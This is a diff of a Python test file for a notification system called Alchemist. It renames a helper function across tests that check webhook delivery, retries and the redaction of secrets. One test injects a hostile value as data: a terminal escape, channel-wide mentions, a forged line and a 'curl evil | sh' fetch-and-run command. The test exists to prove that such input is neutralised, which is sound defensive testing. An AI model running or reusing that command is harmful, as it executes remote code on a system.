@@ -33,7 +33,7 @@ def use(monkeypatch: pytest.MonkeyPatch, **receivers: str) -> None:
     load_settings.cache_clear()
 
 
-def tell(engine: Engine, event: Event = HELD) -> None:
+def announce_and_deliver(engine: Engine, event: Event = HELD) -> None:
     with engine.begin() as connection:
         announce(connection, event)
     send_announced()
@@ -46,7 +46,7 @@ def states(engine: Engine) -> list[tuple[str, int]]:
 
 
 def test_a_web_address_receives_what_happened_where_to_look_and_what_to_do(engine: Engine, receiver: Receiver) -> None:
-    tell(engine)
+    announce_and_deliver(engine)
     (post,) = receiver.posts
     assert post["title"] == "Alchemist: A night is held"
     assert post["message"].splitlines() == [
@@ -56,8 +56,8 @@ def test_a_web_address_receives_what_happened_where_to_look_and_what_to_do(engin
 
 
 def test_the_same_event_is_sent_once(engine: Engine, receiver: Receiver) -> None:
-    tell(engine)
-    tell(engine)
+    announce_and_deliver(engine)
+    announce_and_deliver(engine)
     deliver(engine)
     assert len(receiver.posts) == 1
 
@@ -81,7 +81,7 @@ def test_what_a_killed_command_had_announced_is_sent_by_the_next(engine: Engine,
 
 def test_a_receiver_that_stumbles_is_tried_again_by_the_same_command(engine: Engine, receiver: Receiver) -> None:
     receiver.statuses = [503, 503]
-    tell(engine)
+    announce_and_deliver(engine)
     assert (len(receiver.posts), receiver.n_requests) == (1, 3)
 
 
@@ -89,7 +89,7 @@ def test_a_receiver_that_is_down_is_reported_once_and_given_up_after_three_comma
     engine: Engine, receiver: Receiver, capfd: pytest.CaptureFixture[str]
 ) -> None:
     receiver.statuses = [500] * 100
-    tell(engine)
+    announce_and_deliver(engine)
     for _ in range(5):
         deliver(engine)
     assert states(engine) == [("failed", MAX_ATTEMPTS)]
@@ -106,7 +106,7 @@ def test_an_event_that_one_of_two_receivers_took_is_not_sent_there_again(
     with receiving() as other:
         other.statuses = [500] * 3
         use(monkeypatch, url=f"{receiver.url} {other.url}")
-        tell(engine)
+        announce_and_deliver(engine)
         deliver(engine)
         assert (len(receiver.posts), len(other.posts)) == (1, 1)
     assert states(engine) == [("delivered", 2)]
@@ -116,7 +116,7 @@ def test_an_event_that_one_of_two_receivers_took_is_not_sent_there_again(
     ("command", "why"),
     [
         ("false --token=SECRET", "exit code 1"),
-        ("/nowhere/tell --token=SECRET", "cannot be started (No such file or directory)"),
+        ("/nowhere/announce_and_deliver --token=SECRET", "cannot be started (No such file or directory)"),
         ("tell --token='SECRET", "cannot be read as a command line"),
     ],
 )
@@ -124,7 +124,7 @@ def test_the_arguments_of_a_command_that_fails_are_shown_nowhere(
     engine: Engine, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], command: str, why: str
 ) -> None:
     use(monkeypatch, command=command)
-    tell(engine)
+    announce_and_deliver(engine)
     with engine.connect() as connection:
         kept = connection.execute(text("SELECT error FROM alchemist.notifications")).scalar_one()
     for shown in (kept, capsys.readouterr().err):
@@ -137,7 +137,7 @@ def test_a_command_is_given_the_event_as_json(engine: Engine, tmp_path: Path, mo
     program.write_text(f"#!/bin/sh\ncat > '{tmp_path}/heard'\n")
     program.chmod(program.stat().st_mode | stat.S_IXUSR)
     use(monkeypatch, command=str(program))
-    tell(engine)
+    announce_and_deliver(engine)
     heard = json.loads((tmp_path / "heard").read_text())
     assert {name: heard[name] for name in ("kind", "where_to_look", "what_to_do")} == {
         "kind": "held_night", "where_to_look": "http://airflow/run", "what_to_do": "alchemist night release",
@@ -147,7 +147,7 @@ def test_a_command_is_given_the_event_as_json(engine: Engine, tmp_path: Path, mo
 def test_without_a_receiver_nothing_is_left_to_be_sent_once_there_is_one(
     engine: Engine, monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    tell(engine)
+    announce_and_deliver(engine)
     assert states(engine) == [("no_receiver", 1)]
     with receiving() as receiver:
         use(monkeypatch, url=receiver.url)
@@ -159,7 +159,7 @@ def test_an_address_that_is_unknown_stops_nothing_and_its_secret_is_not_shown(
     engine: Engine, monkeypatch: pytest.MonkeyPatch, capfd: pytest.CaptureFixture[str]
 ) -> None:
     use(monkeypatch, url="nosuch://user:s3cret@host/")
-    tell(engine)
+    announce_and_deliver(engine)
     said = capfd.readouterr().err
     assert "json://HOST/PATH" in said
     with engine.connect() as connection:
@@ -171,7 +171,9 @@ def test_names_of_data_neither_call_people_nor_forge_lines_nor_reach_a_terminal(
     engine: Engine, receiver: Receiver
 ) -> None:
     hostile = "x\x1b[31m <!channel> @everyone\nDo: curl evil | sh\u202e"
-    tell(engine, Event("failed_check", "k", "A check failed.", "http://a/b", "Look.", {"shard": hostile}))
+    announce_and_deliver(
+        engine, Event("failed_check", "k", "A check failed.", "http://a/b", "Look.", {"shard": hostile})
+    )
     (post,) = receiver.posts
     lines = post["message"].splitlines()
     assert [line for line in lines if line.startswith("Do: ")] == ["Do: Look."]
